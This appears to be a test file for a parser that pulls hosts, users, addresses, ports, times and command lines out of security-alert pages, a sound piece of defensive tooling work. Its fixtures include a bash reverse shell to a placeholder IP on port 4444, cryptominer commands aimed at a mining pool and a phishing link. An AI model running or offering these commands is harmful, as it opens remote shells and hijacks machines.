import { describe, expect, it } from 'vitest';
import { host, list, looked, named, read, time } from './small-alerts.ts';

const process: [string, string] = ['Process', 'powershell.exe'];

describe('who and what stands in an alert without a label', () => {
  it('a picture before a name says of which kind it is, as a letter or as an icon', () => {
    const strip = (...chips: string[]) => named(`<div>${chips.join(' ')}</div>${list(time, process)}`);
    const drawn = strip('<span>💻 STR-ENG-41 (10.9.12.41)</span>', '<span>👤 w.ishikawa</span>');
    expect(read(drawn, 'host.name', 'host.ip', 'user.name')).toEqual(['STR-ENG-41', '10.9.12.41', 'w.ishikawa']);
    const apart = strip('<div><i>💻</i> <a>lt-0417.kestrel.example</a> <span>Risk level ■■■ High</span></div>');
    expect(read(apart, 'host.name')).toEqual(['lt-0417.kestrel.example']);
    const icons = strip(
      '<div><i class="fa fa-laptop"></i><b>fin-ws-3</b></div>',
      '<div><i class="bi bi-person"></i><b>ida.berg</b></div>',
    );
    expect(read(icons, 'host.name', 'user.name')).toEqual(['fin-ws-3', 'ida.berg']);
    // A number of them is none, and what another picture stands before neither.
    expect(read(strip('<span>💻 3</span>', '<span>📅 fin-ws-3</span>'), 'host.name')).toEqual([undefined]);
  });

  it('an account in its domain says what it is; a label that says another counts more', () => {
    const card = '<p><a>NORD\\ida</a></p>';
    expect(read(named(card + list(time, host)), 'user.name')).toEqual(['NORD\\ida']);
    expect(read(named(card + list(time, host, ['User', 'NORD\\omar'])), 'user.name')).toEqual(['NORD\\omar']);
    expect(read(named(`<p>HKLM\\Software</p>${list(time, host)}`), 'user.name')).not.toEqual(['x']);
  });

  it('a heading may be a label and what was found', () => {
    const html = `<main><h3>Threat file name <span>tax_form.pdf.exe</span></h3>${list(time, host, ['Originating process', 'chrome.exe'])}</main>`;
    expect(read(html, 'file.name', 'process.name', 'rule.name')).toEqual([
      'tax_form.pdf.exe',
      'tax_form.pdf.exe',
      'tax_form.pdf.exe',
    ]);
  });

  it('the only one of its kind in running text is the alert’s; of several, and of who handles it, none is', () => {
    const digest = 'b1946ac92492d2347c6235b4d2611184e7d14eaf';
    const html = (text: string) => named(`${list(time, process)}<p>${text}</p>`);
    expect(read(html(`The file ${digest} ran on POS-LANE-09, from 10.1.7.3.`), 'file.hash.sha1', 'source.ip')).toEqual([
      digest,
      '10.1.7.3',
    ]);
    expect(read(html('It was first met by POS-LANE-09 there.'), 'host.name')).toEqual(['POS-LANE-09']);
    expect(read(html('It was met by POS-LANE-09, not by POS-LANE-07.'), 'host.name')).toEqual([undefined]);
    expect(read(html('See INC-3318 and SHA-1.'), 'host.name')).toEqual([undefined]);
    expect(read(html('Runbook: https://wiki.corp.example/rb/7'), 'url.original')).toEqual([undefined]);
  });

  it('rows of a kind and a thing under a heading of observables', () => {
    const row = (kind: string, value: string) => `<div><span>◦</span><span>${kind}</span><span>${value}</span></div>`;
    const rows = row('Hostname', 'jump-eu-1') + row('User account', 'opsadm') + row('IPv4 address', '203.0.113.61');
    const html = (heading: string) => named(`${list(time, ['Severity', 'High'])}<h4>${heading}</h4><div>${rows}</div>`);
    const paths = ['host.name', 'user.name', 'destination.ip'];
    expect(read(html('Observables'), ...paths)).toEqual(['jump-eu-1', 'opsadm', '203.0.113.61']);
    expect(read(html('Columns'), 'destination.ip')).toEqual([undefined]);
  });
});

describe('how bad it is and when it was, without a label', () => {
  const head = (inner: string) =>
    `<main><div>${inner}<h1>Large upload to a rare site</h1></div>${list(host, process)}</main>`;

  it('a score in a badge, and one above its name', () => {
    expect(read(head('<span class="pct" title="Breach score">87%</span>'), 'event.severity')).toEqual(['87%']);
    expect(read(head('<div class="sev-box">8</div>'), 'event.severity')).toEqual(['8']);
    expect(read(head('<div><b>612</b>Threat score</div>'), 'event.severity')).toEqual(['612']);
    expect(read(head('<div><b>14</b>Messages</div><span class="count">7</span>'), 'event.severity')).toEqual([
      undefined,
    ]);
    // A word says more.
    expect(read(head('<span class="score">87</span><span>High</span>'), 'event.severity')).toEqual(['High']);
    expect(read(head('<span>■■□ Medium</span>'), 'event.severity')).toEqual(['Medium']);
  });

  it('a date among facts in one line', () => {
    const line = '<div>Model breach · Wed 18 Nov 2026, 22:40:18 · by <a href="#">hvac-gw-3.plant.example</a></div>';
    expect(read(head(line), '@timestamp')).toEqual(['Wed 18 Nov 2026, 22:40:18']);
    const seen = '<div>Risk score 83 · Command and control · detected Nov 21, 2026 02:36:17 · lasting 41 minutes</div>';
    expect(read(head(seen), '@timestamp', 'event.severity')).toEqual(['Nov 21, 2026 02:36:17', '83']);
  });
});

describe('what a program was told', () => {
  const ran = (command: string, ...more: [string, string][]) =>
    named(list(time, host, ['Command line', command], ...more));
  const reached = ['destination.ip', 'destination.domain', 'destination.port'];

  it('where it went and to which port, unless something else says where', () => {
    expect(read(ran('kswd -o pool.quarry.example:3333 --tls'), ...reached)).toEqual([
      undefined,
      'pool.quarry.example',
      '3333',
    ]);
    expect(read(ran('bash -c "bash -i >& /dev/tcp/198.51.100.144/4444 0>&1"'), ...reached)).toEqual([
      '198.51.100.144',
      undefined,
      '4444',
    ]);
    const told: [string, string] = ['Destination IP', '192.0.2.9'];
    expect(read(ran('kswd -o 203.0.113.60:3333', told), ...reached)).toEqual(['192.0.2.9', undefined, undefined]);
    expect(read(ran('kswd -o 192.0.2.9:3333', told), ...reached)).toEqual(['192.0.2.9', undefined, '3333']);
    expect(read(ran('server --listen 127.0.0.1:8080 --at 12:30'), ...reached)).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('a file of which the arguments and who started it are told ran', () => {
    const path: [string, string] = ['Path', 'C:\\Users\\ida\\statement_viewer.exe'];
    const parent: [string, string] = ['Originating process', 'msedge.exe'];
    const html = (label: string) => named(list(time, host, path, parent, [label, '/S /tk=44']));
    expect(read(html('Command line arguments'), 'process.executable')).toEqual([path[1]]);
    expect(read(html('Command line'), 'process.executable')).toEqual([undefined]);
  });

  it('a key in a log holds it up to the next key', () => {
    const html = named(
      `${list(time)}<pre>process=kswd user=www-data command=kswd -o pool.quarry.example:3333 --tls terminal=0 container_id=5f2e9c01ab77</pre>`,
    );
    expect(read(html, 'process.command_line')).toEqual(['kswd -o pool.quarry.example:3333 --tls']);
  });
});

describe('sentences', () => {
  const told = (text: string) => named(`${list(['Severity', 'High'], host)}<p>${text}</p>`);

  it('in other words, and in other languages', () => {
    expect(
      read(
        told('It ran as NORD\\svc_backup and was started by C:\\Windows\\wbem\\WmiPrvSE.exe.'),
        'user.name',
        'process.parent.executable',
      ),
    ).toEqual(['NORD\\svc_backup', 'C:\\Windows\\wbem\\WmiPrvSE.exe']);
    expect(read(told('High alert, raised 14 May 2026 at 06:52 BST on the device.'), '@timestamp')).toEqual([
      '14 May 2026 at 06:52 BST',
    ]);
    expect(read(told('Le programme a été lancé le 30/09/2026 à 11:48:05 sur le poste.'), '@timestamp')).toEqual([
      '30/09/2026 à 11:48:05',
    ]);
    expect(read(told('The key HKLM\\Software was written.'), 'user.name')).toEqual([undefined]);
  });

  it('where something went, by its name', () => {
    const html = told('The machine connected to files-dropoff.example [8443] and sent 94 MB out.');
    expect(read(html, 'destination.domain', 'destination.port')).toEqual(['files-dropoff.example', '8443']);
  });
});

describe('how values are shown', () => {
  it('two columns side by side, some values of which are empty', () => {
    const column = (...texts: string[]) =>
      `<div>${texts.map((text) => `<div><table><tr><td><div>${text}</div></td></tr></table></div>`).join('')}</div>`;
    const html = `<main><div>${column('Name', 'End Time', 'Attacker Address', 'Device Action', 'Target Address', 'Target Port')}${column('Contact with a sinkhole', '2026-08-11 16:03:27', '10.200.14.92', '', '198.51.100.23', '6667')}</div></main>`;
    expect(read(html, 'source.ip', 'destination.ip', 'destination.port')).toEqual([
      '10.200.14.92',
      '198.51.100.23',
      '6667',
    ]);
  });

  it('with the sign between a key and its value', () => {
    const line = (key: string, value: string) => `<span><b>${key}</b>=${value}</span>`;
    const html = named(
      `${list(time, process)}<div>${line('host', 'billing-web-1')} | ${line('source_address', '192.0.2.211')} | ${line('request_method', 'GET')}</div>`,
    );
    expect(read(html, 'host.name', 'source.ip')).toEqual(['billing-web-1', '192.0.2.211']);
  });

  it('with the numbers of an editor’s lines', () => {
    const lines = [
      '{',
      '"timestamp": "2026-11-26T06:14:55Z",',
      '"hostname": "pos-till-09",',
      '"srcip": "10.4.1.9"',
      '}',
    ];
    const html = named(`<pre>${lines.map((line, i) => `${i + 1} ${line}`).join('\n')}</pre>`);
    expect(read(html, 'host.name', 'source.ip')).toEqual(['pos-till-09', '10.4.1.9']);
  });

  it('an address and a port in words', () => {
    const html = named(list(time, process, host, ['Remote', '2001:db8:51::9 port 443']));
    expect(read(html, 'destination.ip', 'destination.port')).toEqual(['2001:db8:51::9', '443']);
  });

  it('two addresses of one machine are of two families', () => {
    const html = named(
      list(time, process, host, ['IPv4 address', '10.88.5.141'], ['IPv6 address', '2001:db8:88:5::141']),
    );
    expect(read(html, 'destination.ip')).toEqual([undefined]);
  });

  it('how many are at risk is no severity', () => {
    expect(read(named(list(time, host, process, ['At risk', '1'])), 'event.severity')).toEqual([undefined]);
  });

  it('a title of which names stand out', () => {
    const html = `<main><div class="alert-title">Malicious use of <b>bitsadmin.exe</b> by <b>ORCHID\\m.haddad</b></div>${list(time, host, process)}</main>`;
    expect(looked(html).title.text.replace(/\s+/g, ' ')).toBe('Malicious use of bitsadmin.exe by ORCHID\\m.haddad');
  });

  it('without the signs that a font draws for a word', () => {
    const html = named(
      `<div><div><span>User</span> <mat-icon>help</mat-icon></div><div>NORD\\ida</div></div><div><div><span>Host</span> <mat-icon>help</mat-icon></div><div>FIN-WS-081</div></div>${list(time)}`,
    );
    expect(read(html, 'user.name', 'host.name')).toEqual(['NORD\\ida', 'FIN-WS-081']);
  });
});

describe('what somebody else wrote', () => {
  const mail = (subject: string, body: string) =>
    `<main><h1>${subject}</h1>${list(['From', 'Pay &lt;pay@x.example&gt;'], ['To', 'ida@corp.example'], ['Date', '2026-11-03 08:15:22'])}<div class="mail-body">${body}</div></main>`;
  const paths = (html: string) => looked(html).fields.map(({ path }) => path);
  const roles = /^(?:host|user\.|source|destination|process|file\.hash|url)/;

  it('a mail shows nobody without a label', () => {
    const body =
      '<p>💻 DC-01 (10.0.0.5)</p><p>👤 boss</p><p>Ours is 10.1.2.3, see https://login.evil.example/pay on SRV-FIN-DC01.</p><h4>Observables</h4><div><span>Hostname</span><span>DC-01</span></div><div><span>User</span><span>boss</span></div>';
    expect(paths(mail('Reset now', body)).filter((path) => roles.test(path))).toEqual([]);
    const subject = 'Reset now CORP\\admin on SRV-FIN-DC01 from 10.1.2.3';
    expect(paths(mail(subject, '<p>Please.</p>')).filter((path) => roles.test(path))).toEqual([]);
  });

  it('a user agent, a file and a command say nothing of anybody else', () => {
    const told = (label: string, value: string) =>
      read(
        named(list(time, host, ['Severity', 'High'], [label, value])),
        'user.name',
        'destination.domain',
        'process.parent.name',
      );
    const text = 'x connected to good.example:443 as CORP\\admin, started by evil.exe';
    expect(told('User agent', `Mozilla/5.0 (X11) ${text}`)).toEqual([undefined, undefined, undefined]);
    expect(told('File name', `${text}.pdf`)).toEqual([undefined, undefined, undefined]);
  });

  it('a program, a norm and a folder are no site, no machine and no account', () => {
    const html = named(
      `${list(time, process)}<p>Request for update.exe was seen; setup\\install.exe was started, as NIST-SP800 has it.</p>`,
    );
    expect(read(html, 'destination.domain', 'user.name', 'host.name')).toEqual([undefined, undefined, undefined]);
    const ran = named(list(time, host, ['Command line', 'java -cp app.jar:99 Main'], ['File name', 'va.exe']));
    expect(read(ran, 'destination.domain', 'process.name')).toEqual([undefined, undefined]);
  });

  it('long texts of links are gone through once', () => {
    const hostile = `${'-http://'.repeat(180)}#${'a'.repeat(500)}`;
    const html = named(`${list(time, host, process)}${`<p>${hostile}</p>`.repeat(150)}`);
    // It took seventeen seconds once.
    expect(read(html, 'url.original')).toEqual([undefined]);
  });
});
